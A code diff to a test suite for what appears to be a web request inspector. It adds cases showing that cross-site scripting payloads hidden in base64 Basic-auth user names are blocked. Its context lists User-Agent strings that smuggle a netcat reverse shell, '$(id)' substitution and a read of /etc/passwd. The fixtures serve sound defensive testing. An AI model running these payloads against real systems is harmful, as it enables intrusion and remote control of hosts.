@@ -96,6 +96,16 @@ describeFamily("category x zone x encoding matrix", {}, (h) => {
     expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
   });
 
+  // Basic credentials are decoded; a form feed in them is HTML's blank, not binary.
+  it.each(['"\fonkeydown=self[`alert`](1) autofocus x=\'', "<svg\fonload=alert(1)>"])("blocks Basic credentials whose user name is %j", (user) => {
+    const v = `Basic ${Buffer.from(`${user}:secret`).toString("base64")}`;
+    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeGreaterThanOrEqual(5);
+  });
+  it("passes Basic credentials with a form feed in a pass phrase", () => {
+    const v = `Basic ${Buffer.from("jane.doe:page\fbreak on=purpose (x)").toString("base64")}`;
+    expect(inspect(h(), { path: "/api/me", headers: [["host", "svc.local"], ["authorization", v]] }).score).toBeLessThan(5);
+  });
+
   // A User-Agent's products and comments are no command line; what follows where they stop is read.
   it.each([
     "curl/8.5.0 | nc -e /bin/sh 10.0.0.1 4444", "python-requests/2.31.0 $(id)", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/124.0 ; cat /etc/passwd",
